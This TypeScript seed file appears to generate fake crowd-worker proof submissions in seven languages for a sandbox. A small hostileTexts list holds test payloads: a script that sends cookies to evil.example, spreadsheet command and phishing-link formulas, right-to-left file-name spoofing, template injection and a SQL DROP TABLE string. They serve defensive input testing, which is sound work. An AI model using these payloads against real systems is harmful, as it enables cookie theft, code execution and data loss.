import type { Random } from "@/sandbox/random";
import type { Country } from "@/sandbox/seed/countries";

/** `#` stands for a completion code, `@` for a profile link. */
const texts: Record<Country["language"], readonly string[]> = {
  en: [
    "Completed the survey as requested",
    "Done! Completion code: #",
    "I finished all the steps. Screenshot attached. My profile: @",
    "done",
    "Hello sir, I have completed this job successfully. Please approve it as soon as possible. Thank you so much!",
    "Username: #\nEmail used: same as my profile\nTime: about 6 minutes",
    "Followed, liked and kept it open for 2 minutes. @",
    "code is #, the last page did not load on my phone so I took the screenshot before",
  ],
  zh: [
    "已完成任务，请查看截图。完成码：#",
    "做好了，谢谢老板",
    "已按要求点赞并关注，主页链接：@",
    "问卷已经填完，一共用了五分钟，麻烦审核一下",
  ],
  ar: [
    "تم إكمال المهمة كما هو مطلوب، الرمز: #",
    "أنهيت الاستبيان والصورة مرفقة، شكرا لكم",
    "تمت المتابعة والإعجاب @",
    "تم ✅",
  ],
  es: [
    "Tarea completada, código: #",
    "Listo, ya seguí la cuenta y di me gusta. Mi perfil: @",
    "Terminé la encuesta, adjunto la captura. ¡Gracias!",
    "hecho",
  ],
  ru: [
    "Выполнено, код: #",
    "Опрос пройден до конца, скриншот прилагаю. Спасибо!",
    "Подписался и поставил лайк @",
    "готово",
  ],
  vi: [
    "Đã hoàn thành khảo sát, mã: #",
    "Em đã làm xong theo yêu cầu, mong anh/chị duyệt giúp ạ. Cảm ơn!",
    "Đã thích và theo dõi trang: @",
    "xong rồi ạ",
  ],
  hi: [
    "सर्वे पूरा कर दिया है, कोड: #",
    "काम पूरा हो गया है, कृपया स्वीकृत करें। धन्यवाद",
    "Task complete kar diya sir, code #",
    "फॉलो और लाइक कर दिया @",
  ],
};

/** What a careless desk would run, open or misread: HTML, formulas, direction tricks, very long text. */
const hostileTexts = [
  '<img src=x onerror="alert(document.cookie)">Done',
  '"><script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '=HYPERLINK("https://evil.example/login","Click to see my proof")',
  "=cmd|' /C calc'!A0",
  "+1+1;-2+3\t@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(A1:A9),\"quoted\",'single'\r\nsecond line, with comma",
  "\u202Eexe.fdp.foorp\u202C proof attached \u200B\u200B\u200B",
  "javascript:alert(1) data:text/html,<svg/onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> '; DROP TABLE submissions; --",
  `${"please approve ".repeat(180)}thank you`,
  "👍🏽👨‍👩‍👧‍👦🇻🇳 D̷o̸n̶e̵ ﷽",
];

/** One worker's proof text: mostly in their language, sometimes English, empty or hostile. */
export function inventProofText(random: Random, language: Country["language"]): string {
  if (random.chance(0.06)) return "";
  if (random.chance(0.03)) return random.pick(hostileTexts);
  const text = random.pick(texts[random.chance(0.3) ? "en" : language]);
  const code = random.integer(0x100000, 0xffffff).toString(16).toUpperCase();
  return text
    .replace("#", code)
    .replace("@", `https://social.example/u/${random.integer(1000, 99_999_999)}?ref=job`);
}
